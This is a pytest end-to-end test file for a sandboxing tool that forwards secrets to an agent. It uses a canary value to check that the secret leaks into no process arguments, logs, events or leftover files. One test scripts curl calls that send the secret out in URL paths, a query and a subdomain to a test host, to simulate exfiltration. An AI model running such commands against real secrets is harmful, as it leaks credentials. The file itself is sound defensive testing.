"""A forwarded value is in the bottle and nowhere else: a canary is searched for where it could have been left."""

import secrets
import subprocess
from collections.abc import Iterator
from typing import NamedTuple

import pytest
from e2e_traces import OURS, command_line, processes, read
from e2e_upstream import ALLOWED
from e2e_user import User, wait_until


class Search(NamedTuple):
    """A value, and where on this machine it might be. `user` is whoever forwarded it."""

    value: bytes
    user: User

    def files(self) -> set[str]:
        """Return the files below the user's folders, and those of ours elsewhere, that hold it."""
        tops = (self.user.folder, *OURS)
        return {str(path) for top in tops for path in top.rglob("*") if path.is_file() and self.value in read(path)}

    def processes(self, what: str) -> set[str]:
        """Return the command lines of the processes whose `environ` or `cmdline` holds it."""
        return {command_line(path) for path in processes() if self.value in read(path / what)}


@pytest.fixture
def canary() -> str:
    """A value that is nowhere yet, and that no pattern of credentials knows."""
    return f"canary{secrets.token_hex(12)}"


def secret_manifest(user: User) -> None:
    """Write a manifest with a variable of each kind."""
    env = {"LITERAL": "open", "SECRET": {"secret": "the secret"}, "MADE": "${FIRST}${SECOND:-}"}
    egress = {"allowlist": [ALLOWED], "private_addresses": ["127.0.0.0/8"]}
    user.manifest({"egress": egress, "env": env})


@pytest.fixture
def running(user: User, canary: str) -> Iterator[Search]:
    """A bottle in the foreground that was given the canary twice: from a file, and put together from two variables."""
    secret_manifest(user)
    (user.home / "secret").write_text(f"{canary}\n")
    half = len(canary) // 2
    with (user.folder / "stderr").open("wb") as messages:
        process = user.begin(
            *("start", "reviewer", "--file", "bottle.yaml", "--yes", "--debug"),
            *("--secret-file", f"SECRET={user.home}/secret", "--", "sleep", "61"),
            env={"FIRST": canary[:half], "SECOND": canary[half:]},
            stderr=messages,
        )
    assert wait_until(lambda: [row["state"] for row in user.listed()] == ["running"])
    assert wait_until(lambda: Search(canary.encode(), user).processes("environ"))
    yield Search(canary.encode(), user)
    process.terminate()
    process.communicate(timeout=20)


def test_all_kinds_arrive(user: User, canary: str) -> None:
    """S7, S10, S18: a literal, a secret and an interpolated variable are in the agent's environment, by their names."""
    secret_manifest(user)
    (user.home / "secret").write_text(f"{canary}\n")
    options = ("--secret-file", f"SECRET={user.home}/secret")
    script = 'printf "%s|" "$LITERAL" "$SECRET" "$MADE" "$FIRST"'
    done = user.start("sh", "-c", script, options=options, env={"FIRST": canary[::-1]})
    assert done.out == f"open|{canary}|{canary[::-1]}||"
    assert canary not in done.err
    assert canary[::-1] not in done.err


def test_a_value_is_in_no_file_and_no_process_but_the_agent(running: Search) -> None:
    """S7: no argument, no environment of ours, no file; the search finds it where it was put on purpose."""
    assert running.processes("environ") == {"sleep 61"}
    assert running.processes("cmdline") == set()
    assert running.files() == {str(running.user.home / "secret")}


def test_a_value_is_with_other_commands_too_and_with_nobody_else(running: Search) -> None:
    """`bottle exec` runs with the same environment, without ever having the value itself."""
    process = running.user.begin("exec", "reviewer", "--", "sleep", "62")
    assert wait_until(lambda: running.processes("environ") == {"sleep 61", "sleep 62"})
    assert running.processes("cmdline") == set()
    process.terminate()
    process.communicate(timeout=20)


def test_a_value_is_not_on_record(user: User, canary: str) -> None:
    """S7: an agent that sends the value away leaves it in no event, no log and no message of ours."""
    secret_manifest(user)
    (user.home / "secret").write_text(canary)
    url = f"https://{ALLOWED}/path/$SECRET?key=$SECRET"
    script = f"curl -s {url}; curl -s https://$SECRET.e2e.test/; curl -s http://{ALLOWED}:81/$SECRET"
    options = ("--secret-file", f"SECRET={user.home}/secret", "--debug", "--timings")
    done = user.start("sh", "-c", script, options=options, env={"FIRST": "x"})
    assert len(user.events()) == 3
    assert canary not in done.err
    assert Search(canary.encode(), user).files() == {str(user.home / "secret")}


def test_a_value_outlives_nothing(user: User, canary: str) -> None:
    """After a detached bottle was stopped, and after a crash that was cleaned up, only its own file has the value."""
    secret_manifest(user)
    (user.home / "secret").write_text(canary)
    options = ("--secret-file", f"SECRET={user.home}/secret", "--detach")
    search = Search(canary.encode(), user)
    user.start(options=options, env={"FIRST": "x"})
    assert search.processes("environ") == set()
    user.bottle("stop", "reviewer")
    user.start("sleep", "63", options=options, env={"FIRST": "x"})
    assert wait_until(lambda: search.processes("environ") == {"sleep 63"})
    [row] = user.listed()
    subprocess.run(["kill", "-KILL", str(row["pid"])], check=True)
    assert wait_until(lambda: search.processes("environ") == set())
    user.bottle("cleanup", "--yes")
    assert search.files() == {str(user.home / "secret")}


def test_the_preflight_has_names_alone(user: User, canary: str) -> None:
    """S10: text and JSON list literals and forwarded variables apart, and no value of either."""
    secret_manifest(user)
    (user.home / "secret").write_text(canary)
    words = ("start", "reviewer", "--dry-run", "--secret-file", f"SECRET={user.home}/secret")
    env = {"FIRST": canary[::-1]}
    text, json = (user.bottle(*words, *form, env=env) for form in ((), ("--format=json",)))
    for shown in (text.out + text.err, json.out + json.err):
        assert [value for value in (canary, canary[::-1], "open") if value in shown] == []
        assert [key for key in ("LITERAL", "SECRET", "MADE") if key not in shown] == []


@pytest.mark.parametrize(
    ("data", "said"),
    [
        (b"two\0parts", "the value of SECRET has a NUL"),
        (b"a" * (128 << 10), "the value of SECRET is larger than 128 KiB"),
        ("\N{EURO SIGN}".encode() * 50_000, "the value of SECRET is larger than 128 KiB"),
        (b"\xff", "cannot be read: not UTF-8"),
        (None, "cannot be read: No such file or directory"),
    ],
)
def test_a_file_without_a_usable_secret_is_the_only_problem(user: User, data: bytes | None, said: str) -> None:
    """S18: what no variable can hold is said before the question, and nothing else is made of it."""
    user.manifest({"env": {"SECRET": {"secret": "a question"}}})
    if data is not None:
        (user.home / "secret").write_bytes(data)
    done = user.start("true", options=("--secret-file", f"SECRET={user.home / 'secret'}"))
    assert done.code == 125
    [error] = [line for line in done.err.splitlines() if line.startswith("error: ")]
    assert error.startswith(f"error: --secret-file SECRET: {user.home / 'secret'}")
    assert said in error


def test_a_variable_that_no_program_can_be_given_is_a_problem(user: User) -> None:
    """A text of the manifest's own, and one that it takes from here: named with its line."""
    user.manifest({"env": {"OWN": "x" * 140_000, "HOST": "${HALF}${HALF}"}})
    done = user.start("true", env={"HALF": "x" * 70_000})
    assert done.code == 125
    for name in ("OWN", "HOST"):
        assert f"bottles.dev.env.{name}: the value of {name} is larger than 128 KiB" in done.err


def test_a_secret_without_a_terminal_is_a_problem(user: User) -> None:
    """S18: what cannot be asked for, or is not set, is said before anything is launched, with the way to give it."""
    secret_manifest(user)
    done = user.start("true")
    assert done.code == 125
    assert "--secret-file SECRET=PATH" in done.err
    assert "MADE needs the host's variable FIRST" in done.err
    assert user.events() == []
